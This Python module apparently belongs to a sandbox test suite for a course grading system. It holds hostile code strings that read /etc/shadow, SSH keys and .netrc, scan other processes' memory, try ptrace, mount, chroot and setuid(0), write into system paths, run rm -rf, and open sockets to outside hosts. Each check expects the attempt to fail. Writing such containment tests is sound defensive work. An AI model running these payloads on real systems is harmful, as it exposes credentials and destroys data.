"""Attacks by code that reach for what lies outside of the sandbox: secrets, files, processes, listeners.

Each reports what it got hold of. ``OUTSIDE`` tells it all that an insider could know: where everything lies.
"""

from hostile import CANARY, Attack

# Every file that can be read, as far as that goes in a few seconds, searched for what looks like a secret.
SEARCHES = f"""
import re
canary = re.compile(rb"{CANARY}")
got, found = [], set()
def read(path):
    try:
        descriptor = os.open(path, os.O_RDONLY | os.O_NONBLOCK)
        with open(descriptor, "rb") as file: return file.read(3_000_000)
    except (OSError, ValueError): return None
for path in OUTSIDE["secrets"]:
    for prefix in ("", "/proc/1/root", f"/proc/{{os.getppid()}}/root", "/proc/1/cwd", "/newroot", "/oldroot"):
        if read(prefix + path) is not None or os.path.lexists(prefix + path): got.append(path)
places = ["/", os.path.expanduser("~"), "/home", "/root", "/tmp", "/var", "/etc", "/run", "/mnt", "/opt", "/dev/shm"]
until = time.monotonic() + 2.5
for place in [*places, *sys.path[:2]]:
    for folder, names, files in os.walk(place):
        if folder.startswith(("/proc", "/sys", "/usr", sys.base_prefix)) or time.monotonic() > until: names.clear()
        for name in files:
            if time.monotonic() > until: break  # a folder of large files alone is longer than the cell may take
            found |= set(canary.findall(read(os.path.join(folder, name)) or b""))
import importlib.util
modules = []
for name in ("marking.marking", "gradebook", "isolation", "design", "model", "stiffness", "symbolic", "course"):
    try:
        if importlib.util.find_spec(f"labcourse.grading.{{name}}"): modules.append(name)
    except ImportError: pass
report |= {{"got": got, "canaries": [one.decode() for one in found], "modules": modules}}
"""
ACCOUNTS = """
import pwd
shell = get_ipython()
def lines(path):
    try: return open(path).read().splitlines()
    except OSError: return []
report["accounts"] = lines("/etc/passwd")
report["shadow"] = lines("/etc/shadow") + lines("/etc/gshadow") + lines("/etc/sudoers")
said = shell.getoutput("cat /etc/shadow /etc/sudoers ~/.ssh/* ~/.netrc 2>/dev/null; ls -A /home")
report["by-magic"] = [line for line in said if not line.startswith("ls:")]
report["user"] = [pwd.getpwuid(os.getuid()).pw_name, os.getuid() == 0, len(pwd.getpwall())]
rights = [line.split() for line in lines("/proc/self/status") if line.startswith(("CapEff", "CapPrm", "CapBnd"))]
report["capabilities"] = [int(right, 16) for _, right in rights]
report["home"] = sorted(os.listdir(os.path.expanduser("~")))[:20]
shell.run_line_magic("cd", "-q /")
"""
# The memory, environment and descriptors of every process that can be seen, and of those whose numbers are known.
MEMORIES = f"""
import ctypes, re
canary = re.compile(rb"{CANARY}")
libc = ctypes.CDLL(None, use_errno=True)
found, attached, outer = set(), [], []
until = time.monotonic() + 3
def look(data): found.update(canary.findall(data))
pids = [pid for pid in os.listdir("/proc") if pid.isdigit()]
for pid in [*pids, *map(str, OUTSIDE["processes"])]:
    for name in ("environ", "cmdline", "maps", "stack", "cwd", "root"):
        try: look(open(f"/proc/{{pid}}/{{name}}", "rb").read(1_000_000))
        except OSError: pass
    if int(pid) != os.getpid() and libc.ptrace(16, int(pid), 0, 0) == 0:
        attached.append(pid)
        libc.ptrace(17, int(pid), 0, 0)
    try:
        memory = open(f"/proc/{{pid}}/mem", "rb", buffering=0)
        areas = [line.split("-", 1) for line in open(f"/proc/{{pid}}/maps") if line.split()[1].startswith("rw")]
    except OSError: continue
    for area in areas:
        first, last = int(area[0], 16), int(area[1].split()[0], 16)
        if int(pid) == os.getpid() or time.monotonic() > until: break
        try:
            memory.seek(first)
            look(memory.read(min(last - first, 8 << 20)))
        except (OSError, OverflowError, ValueError): pass
    try: descriptors = os.listdir(f"/proc/{{pid}}/fd")
    except OSError: descriptors = []
    for descriptor in descriptors:
        for up in ("", "/..", "/../..", "/../../..") :
            path = f"/proc/{{pid}}/fd/{{descriptor}}{{up}}" + OUTSIDE["marker"]
            if os.path.exists(path): outer.append(path)
report |= {{"canaries": [one.decode() for one in found], "seen": len(pids) < 12, "outer": outer,
           "unknown": [pid for pid in attached if pid not in pids],
           "variables": sorted(set(os.environ) & set(OUTSIDE["variables"]))}}
"""
WRITES = """
import ctypes, pathlib, subprocess
libc = ctypes.CDLL(None, use_errno=True)
written = []
def attempt(what, action):
    try: action()
    except BaseException: return
    written.append(what)
def append(path):
    with open(path, "ab") as file: file.write(b"# " + OUTSIDE["token"].encode())
for path in OUTSIDE["targets"]:
    attempt(path, lambda: append(path))
    attempt(path, lambda: append(os.path.join(path, "hostile-" + OUTSIDE["token"])))
    attempt(path, lambda: os.rename(path, path + "-moved"))
    attempt(path, lambda: os.chmod(path, 0o777))
import rotflex, numpy, sysconfig
packages = [rotflex.__path__[0], numpy.__path__[0], sysconfig.get_path("purelib")]
for folder in (*packages, sys.prefix, "/usr/lib", "/etc", "/", "/var"):
    attempt(folder, lambda: append(os.path.join(folder, "hostile-" + OUTSIDE["token"])))
for path in ("/proc/sys/kernel/core_pattern", "/proc/sysrq-trigger", "/sys/fs/cgroup/cgroup.procs", "/dev/mem",
             "/dev/sda", "/proc/1/oom_score_adj", rotflex.__file__, sys.executable):
    attempt(path, lambda: os.close(os.open(path, os.O_WRONLY)))
def called(number):
    if number: raise OSError(ctypes.get_errno())
attempt("mount", lambda: called(libc.mount(b"none", b"/tmp/work", b"tmpfs", 0, None)))
attempt("remount", lambda: called(libc.mount(None, b"/", None, 32, None)))
attempt("umount", lambda: called(libc.umount2(b"/tmp", 2)))
attempt("unshare", lambda: called(libc.unshare(0x10000000 | 0x00020000)))
attempt("setns", lambda: called(libc.setns(os.open("/proc/self/ns/net", os.O_RDONLY), 0)))
attempt("chroot", lambda: os.chroot("/proc/1/root"))
attempt("become root", lambda: os.setuid(0))
attempt("device", lambda: os.mknod("disk", 0o60666, os.makedev(8, 0)))
attempt("terminal", lambda: __import__("fcntl").ioctl(0, 0x5412, b"x"))
subprocess.run(["sh", "-c", f"rm -rf {OUTSIDE['marker']} {' '.join(OUTSIDE['targets'])}"], capture_output=True)
report["written"] = written
"""
NETWORK = """
import socket, array
word = OUTSIDE["token"].encode()
reached = []
def attempt(what, family, kind, address):
    try:
        with socket.socket(family, kind) as one:
            one.settimeout(0.5)
            one.connect(address)
            one.send(word)
            if kind == socket.SOCK_STREAM or family == socket.AF_UNIX: reached.append(what)
    except (OSError, RuntimeError): pass
for host in OUTSIDE["hosts"]:
    attempt("tcp", socket.AF_INET, socket.SOCK_STREAM, (host, OUTSIDE["tcp"]))
    attempt("udp", socket.AF_INET, socket.SOCK_DGRAM, (host, OUTSIDE["udp"]))
    try: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(word, (host, OUTSIDE["udp"]))
    except (OSError, RuntimeError): pass
attempt("unix", socket.AF_UNIX, socket.SOCK_STREAM, OUTSIDE["unix"])
attempt("abstract", socket.AF_UNIX, socket.SOCK_STREAM, chr(0) + OUTSIDE["abstract"])
for family, kind in ((17, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW)):
    try: socket.socket(family, kind, 1); reached.append("raw")
    except (OSError, RuntimeError): pass
try: reached.append(socket.getaddrinfo("example.com", 80)[0][4])
except OSError: pass
interfaces = [name for _, name in socket.if_nameindex()] if hasattr(socket, "if_nameindex") else []
report |= {"reached": reached, "interfaces": [name for name in interfaces if name != "lo"]}
"""

REACH = {
    "searches": Attack({"q2-11": SEARCHES}, finds={"got": [], "canaries": [], "modules": []}),
    "reads-accounts": Attack(
        {"q2-11": ACCOUNTS},
        finds={
            "accounts": lambda lines: len(lines) == 1 and ":0:" not in lines[0],
            "shadow": [],
            "by-magic": [],
            "user": lambda user: user[1:] == [False, 1],
            "capabilities": [0, 0, 0],
            "home": lambda names: set(names) <= {".cache", ".config", ".ipython", ".local", ".sympy"},
        },
    ),
    "reads-memories": Attack(
        {"q2-11": MEMORIES}, finds={"canaries": [], "seen": True, "outer": [], "unknown": [], "variables": []}
    ),
    "writes-outside": Attack({"q2-11": WRITES}, finds={"written": []}),
    "network": Attack({"q2-11": NETWORK}, finds={"reached": [], "interfaces": []}),
}
